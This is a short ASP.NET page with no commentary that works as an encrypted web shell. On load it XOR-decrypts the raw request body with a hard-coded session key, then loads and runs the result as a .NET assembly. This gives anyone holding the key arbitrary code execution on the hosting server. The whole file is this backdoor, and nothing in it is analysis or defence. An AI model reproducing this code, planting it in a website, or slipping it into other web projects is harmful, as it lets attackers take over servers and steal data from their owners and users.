<%@ Page Language="C#" EnableSessionState="true" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Session["k"] == null) Session["k"] = "9c1f04d2a77b3e60";
    byte[] k = System.Text.Encoding.Default.GetBytes((string)Session["k"]);
    byte[] c = Request.BinaryRead(Request.ContentLength);
    for (int i = 0; i < c.Length; i++) c[i] = (byte)(c[i] ^ k[(i + 1) & 15]);
    System.Reflection.Assembly.Load(c).CreateInstance("U").Equals(this);
}
</script>
